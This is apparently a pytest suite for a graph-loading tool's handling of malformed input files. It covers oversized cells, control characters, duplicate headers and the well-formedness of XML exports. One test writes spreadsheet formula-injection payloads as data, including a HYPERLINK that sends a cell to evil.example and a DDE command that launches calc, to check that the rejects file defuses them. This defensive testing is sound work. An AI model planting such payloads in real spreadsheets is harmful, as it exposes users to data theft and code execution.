"""Faults in the files `policykg load` reads and in what exports write, on both real backends: values
an engine cannot hold, control characters anywhere in a file, too many rows, duplicate headers,
rejects files that a spreadsheet would run, and XML exports of texts that XML cannot hold."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from lxml import etree

from policykg.errors import ParseError, PolicyKGError
from policykg.export import export
from policykg.export.graphfiles import check_xml
from policykg.graph.base import GraphBatch
from policykg.ingest.load import load_paths
from policykg.ingest.synth import synthetic_uscc

pytestmark = pytest.mark.backend


def codes(n: int) -> list[str]:
    return [synthetic_uscc(i) for i in range(1, n + 1)]


def rejects(path: str | Path) -> list[dict[str, str]]:
    raw = Path(path).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "rejects files are UTF-8 with BOM"
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def adds_up(report) -> None:
    for t in report.tables:
        assert t.read == t.loaded + t.rejected, t
        if t.rejected:
            assert t.rejects_file and len(rejects(t.rejects_file)) == t.rejected
    assert report.read == report.loaded + report.rejected


def enterprise_names(backend) -> dict[str, str]:
    return dict(backend.read_cypher("MATCH (e:Enterprise) RETURN e.id, e.name", max_rows=100_000).rows)


def with_settings(monkeypatch, backend, **changes) -> None:
    monkeypatch.setattr(backend, "settings", backend.settings.model_copy(update=changes))


# --------------------------------------------------------------------------------------------
# Values too long for a cell, and values the engine itself refuses
# --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("fast", [True, False], ids=["columnar", "per-record"])
def test_a_million_character_name_is_a_reject_and_the_file_loads(backend, tmp_path, fast):
    a, b, c = codes(3)
    path = tmp_path / "enterprises.csv"
    path.write_text(f"uscc,name\n{a},{'长' * 1_000_000}\n{b},正常企业乙\n{c},正常企业丙\n", encoding="utf-8")
    report = load_paths(backend, [path], progress=False, fast=fast)
    adds_up(report)
    assert (report.read, report.loaded, report.rejected) == (3, 2, 1)
    (r,) = rejects(report.tables[0].rejects_file)
    assert (r["line"], r["field"]) == ("2", "name")
    assert "1,000,000 characters" in r["reason"] and "POLICYKG_MAX_CELL_CHARS" in r["reason"]
    assert r["name"] == "长" * 1_000_000  # the rejected record is kept whole
    assert enterprise_names(backend) == {b: "正常企业乙", c: "正常企业丙"}


def test_a_cell_past_the_csv_modules_own_limit_in_a_gb18030_file(backend, tmp_path):
    """A GB18030 file is read record by record (the csv module, whose default field limit is 131,072
    characters): a longer cell is read whole and rejected, not the end of the load."""
    a, b = codes(2)
    path = tmp_path / "企业名录.csv"
    path.write_bytes(f"统一社会信用代码,企业名称\n{a},{'名' * 200_000}\n{b},杭州乙企业\n".encode("gb18030"))
    report = load_paths(backend, [path], progress=False)
    adds_up(report)
    assert (report.loaded, report.rejected) == (1, 1)
    (r,) = rejects(report.tables[0].rejects_file)
    assert r["line"] == "2" and "200,000 characters" in r["reason"]
    assert enterprise_names(backend) == {b: "杭州乙企业"}


@pytest.mark.parametrize("fast", [True, False], ids=["columnar", "per-record"])
def test_a_row_the_engine_refuses_is_rejected_alone(backend, tmp_path, monkeypatch, fast):
    """With the cell limit raised past what Neo4j's range index holds (about 8 KB per key), Neo4j
    refuses the 20,000-character name: the write is made again in halves down to that row, which is
    rejected with Neo4j's reason; the other 999 rows load. Ladybug holds the name."""
    with_settings(monkeypatch, backend, max_cell_chars=100_000)
    rows = [f"{code},企业{i}" for i, code in enumerate(codes(1000), start=1)]
    long_name = "长" * 20_000
    rows[499] = f"{synthetic_uscc(500)},{long_name}"
    path = tmp_path / "enterprises.csv"
    path.write_text("uscc,name\n" + "\n".join(rows) + "\n", encoding="utf-8")
    report = load_paths(backend, [path], progress=False, fast=fast)
    adds_up(report)
    names = enterprise_names(backend)
    if backend.name == "neo4j":
        assert (report.read, report.loaded, report.rejected) == (1000, 999, 1)
        (r,) = rejects(report.tables[0].rejects_file)
        assert r["line"] == "501" and r["uscc"] == synthetic_uscc(500)
        assert "refused this record" in r["reason"] and "too large to index" in r["reason"]
        assert len(names) == 999 and synthetic_uscc(500) not in names
        assert report.written["Enterprise"] == 999
    else:
        assert (report.read, report.loaded, report.rejected) == (1000, 1000, 0)
        assert names[synthetic_uscc(500)] == long_name
    assert names[synthetic_uscc(1)] == "企业1" and names[synthetic_uscc(1000)] == "企业1000"


def test_rows_past_the_limit_are_one_reject_and_not_read(backend, tmp_path, monkeypatch):
    with_settings(monkeypatch, backend, max_file_rows=5)
    path = tmp_path / "enterprises.csv"
    path.write_text("uscc,name\n" + "".join(f"{c},企业{i}\n" for i, c in enumerate(codes(8))), encoding="utf-8")
    report = load_paths(backend, [path], progress=False)
    adds_up(report)
    t = report.tables[0]
    assert (t.read, t.loaded, t.rejected, t.stopped_at) == (6, 5, 1, 7)
    (r,) = rejects(t.rejects_file)
    assert r["line"] == "7" and "more than 5 records" in r["reason"] and "POLICYKG_MAX_FILE_ROWS" in r["reason"]
    assert sorted(enterprise_names(backend)) == sorted(codes(5))


# --------------------------------------------------------------------------------------------
# Control characters, anywhere in the file
# --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("fast", [True, False], ids=["columnar", "per-record"])
def test_control_characters_past_the_first_8_kib_are_rejected(backend, tmp_path, fast):
    all_codes = codes(400)
    rows = [f"{c},企业{i}" for i, c in enumerate(all_codes)]
    rows[300] = f"{all_codes[300]},坏\x00企业"
    rows[350] = f"{all_codes[350]},转义\x1b[31m企业"
    rows[360] = f"{all_codes[360]},C1\x85企业"
    rows[370] = f"{all_codes[370]},制表\t符企业"  # a tab inside a text is kept
    path = tmp_path / "enterprises.csv"
    path.write_text("uscc,name\n" + "\n".join(rows) + "\n", encoding="utf-8")
    assert path.read_bytes().index(b"\x00") > 8192
    report = load_paths(backend, [path], progress=False, fast=fast)
    adds_up(report)
    assert (report.loaded, report.rejected) == (397, 3)
    got = {r["line"]: r for r in rejects(report.tables[0].rejects_file)}
    assert sorted(got) == ["302", "352", "362"]
    assert "control character U+0000 at character 2" in got["302"]["reason"]
    assert "rejected, not cleaned" in got["302"]["reason"] and got["302"]["field"] == "name"
    assert "U+001B" in got["352"]["reason"] and "U+0085" in got["362"]["reason"]
    assert got["302"]["name"] == "坏\u2400企业"  # shown as the symbol for NUL
    names = enterprise_names(backend)
    assert names[all_codes[370]] == "制表\t符企业"
    assert not any(ch in n for n in names.values() for ch in "\x00\x1b\x85")


def test_a_stray_nul_in_the_first_lines_is_its_records_reject(backend, tmp_path):
    """A NUL or two near the top of a text file are rejects of their records (a UTF-16 or binary file,
    NULs throughout, is still refused as a whole)."""
    a, b, c = codes(3)
    path = tmp_path / "enterprises.csv"
    path.write_text(f"uscc,name\n{a},甲\x00企业\n{b},乙企业\n{c},丙企业\n", encoding="utf-8")
    report = load_paths(backend, [path], progress=False)
    adds_up(report)
    assert (report.loaded, report.rejected) == (2, 1)
    (r,) = rejects(report.tables[0].rejects_file)
    assert r["line"] == "2" and "U+0000" in r["reason"]
    assert enterprise_names(backend) == {b: "乙企业", c: "丙企业"}


def test_control_characters_in_json_lines(backend, tmp_path):
    a, b = codes(2)
    path = tmp_path / "enterprises.jsonl"
    path.write_text(json.dumps({"uscc": a, "name": "甲\u0000企业"}) + "\n"
                    + json.dumps({"uscc": b, "name": "乙企业", "industries": ["集成电路\u0007"]}) + "\n",
                    encoding="utf-8")
    report = load_paths(backend, [path], progress=False)
    adds_up(report)
    assert (report.loaded, report.rejected) == (0, 2)
    got = rejects(report.tables[0].rejects_file)
    assert [(r["line"], r["field"]) for r in got] == [("1", "name"), ("2", "industries")]
    assert "U+0000" in got[0]["reason"] and "U+0007" in got[1]["reason"]


# --------------------------------------------------------------------------------------------
# Rejects files: safe in a spreadsheet, legible whatever the input's encoding
# --------------------------------------------------------------------------------------------

def test_rejects_files_do_not_start_formulas(backend, tmp_path):
    a, b, c = codes(3)
    path = tmp_path / "enterprises.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["uscc", "name", "founded", "=HYPERLINK(\"http://evil\",\"note\")"])
        w.writerow([a, '=HYPERLINK("http://evil.example/?x="&A1,"click")', "明天", "+1"])
        w.writerow([b, "=cmd|' /C calc'!A0", "-2", "@SUM(A1)"])
        w.writerow([c, "\tTAB", "2020-13-45", "\rCR"])
    report = load_paths(backend, [path], progress=False)
    adds_up(report)
    assert report.rejected == 3  # each for its date
    with open(report.tables[0].rejects_file, encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    assert table[0][-1] == "'=HYPERLINK(\"http://evil\",\"note\")"
    assert table[1][5:] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "明天", "'+1"]
    assert table[2][5:] == ["'=cmd|' /C calc'!A0", "'-2", "'@SUM(A1)"]
    assert table[3][5:] == ["'\tTAB", "2020-13-45", "'\rCR"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row)


def test_a_gb18030_line_shows_as_written_in_the_rejects_file(backend, tmp_path):
    a, b = codes(2)
    mixed = tmp_path / "企业甲.csv"  # a UTF-8 file with one line saved in GB18030
    mixed.write_bytes(f"统一社会信用代码,企业名称\n{a},杭州甲企业\n".encode() + f"{b},杭州乙企业\n".encode("gb18030"))
    whole = tmp_path / "企业乙.csv"  # a GB18030 file
    whole.write_bytes(f"统一社会信用代码,企业名称,成立日期\n{b},杭州乙企业,明天\n".encode("gb18030"))
    report = load_paths(backend, [mixed, whole], progress=False)
    adds_up(report)
    (r1,) = rejects(tmp_path / "企业甲.rejects.csv")
    assert r1["line"] == "3" and "not valid UTF-8" in r1["reason"]
    assert (r1["统一社会信用代码"], r1["企业名称"]) == (b, "杭州乙企业")
    (r2,) = rejects(tmp_path / "企业乙.rejects.csv")
    assert (r2["企业名称"], r2["成立日期"]) == ("杭州乙企业", "明天") and r2["field"] == "founded"


# --------------------------------------------------------------------------------------------
# Duplicate headers
# --------------------------------------------------------------------------------------------

def test_duplicate_csv_headers_are_an_error_naming_file_header_and_columns(backend, tmp_path):
    a = codes(1)[0]
    path = tmp_path / "enterprises.csv"
    path.write_text(f"uscc,企业名称,founded,name\n{a},甲,2020-01-01,乙\n", encoding="utf-8")
    with pytest.raises(ParseError) as err:
        load_paths(backend, [path], progress=False)
    msg = err.value.message
    assert "enterprises.csv" in msg and "duplicate header" in msg
    assert "column 2 '企业名称'" in msg and "column 4 'name'" in msg and "give the column name" in msg
    same = tmp_path / "funds.csv"
    same.write_text("name,size,name\n基金甲,1亿元,基金乙\n", encoding="utf-8")
    with pytest.raises(ParseError, match=r"funds.csv: duplicate header: column 1 'name', column 3 'name'"):
        load_paths(backend, [same], progress=False)
    assert backend.counts()["nodes"].get("Enterprise", 0) == 0


def test_duplicate_xlsx_headers_name_the_sheet_and_column_letters(backend, tmp_path):
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "企业"
    ws.append(["统一社会信用代码", "企业名称", "成立日期", "统一社会信用代码"])
    ws.append([codes(1)[0], "甲", "2020-01-01", codes(2)[1]])
    path = tmp_path / "registry.xlsx"
    wb.save(path)
    with pytest.raises(ParseError) as err:
        load_paths(backend, [path], progress=False)
    msg = err.value.message
    assert "registry.xlsx sheet '企业'" in msg
    assert "column A '统一社会信用代码', column D '统一社会信用代码' both give the column uscc" in msg


def test_a_json_object_naming_a_column_twice_is_rejected(backend, tmp_path):
    a, b, c = codes(3)
    path = tmp_path / "enterprises.jsonl"
    path.write_text(f'{{"uscc": "{a}", "name": "甲", "企业名称": "乙"}}\n'
                    f'{{"uscc": "{b}", "name": "丙", "name": "丁"}}\n'
                    f'{{"uscc": "{c}", "name": "戊"}}\n', encoding="utf-8")
    report = load_paths(backend, [path], progress=False)
    adds_up(report)
    assert (report.loaded, report.rejected) == (1, 2)
    got = rejects(report.tables[0].rejects_file)
    assert "'name' and '企业名称' both give the column name" in got[0]["reason"]
    assert "the key 'name' is given twice" in got[1]["reason"]
    assert enterprise_names(backend) == {c: "戊"}


# --------------------------------------------------------------------------------------------
# XML exports
# --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_exports_are_well_formed_whatever_the_texts_hold(backend, tmp_path, fmt):
    """A text XML 1.0 cannot hold (put in the graph other than by `policykg load`, which rejects it)
    is written with U+FFFD, the export says so, and lxml parses the file."""
    a, b = codes(2)
    batch = GraphBatch()
    batch.add_node("Enterprise", {"id": a, "name": "坏\x00名\x0b字\ufffe"})
    batch.add_node("Enterprise", {"id": b, "name": "好名字\t"})
    backend.write(batch)
    out = tmp_path / f"graph.{fmt}"
    report = export(backend, fmt, out)
    # three in the name; GEXF writes the name twice (as the attribute and as the node's label)
    assert report["replaced_characters"] == (3 if fmt == "graphml" else 6)
    assert any("character(s) that XML 1.0 cannot hold" in n and f"Enterprise {a} name" in n
               for n in report["notes"])
    tree = etree.parse(str(out))  # raises on a file that is not well-formed
    texts = {el.text for el in tree.iter() if el.text}
    attrs = {v for el in tree.iter() for v in el.attrib.values()}
    assert "坏\ufffd名\ufffd字\ufffd" in texts | attrs
    assert "好名字\t" in texts | attrs


def test_an_export_that_is_not_xml_is_removed_and_fails(tmp_path):
    bad = tmp_path / "graph.graphml"
    bad.write_bytes(b"<?xml version='1.0' encoding='utf-8'?>\n<graphml><data>\x01</data></graphml>")
    with pytest.raises(PolicyKGError, match="GraphML export is not well-formed XML"):
        check_xml(bad, "GraphML")
    assert not bad.exists()
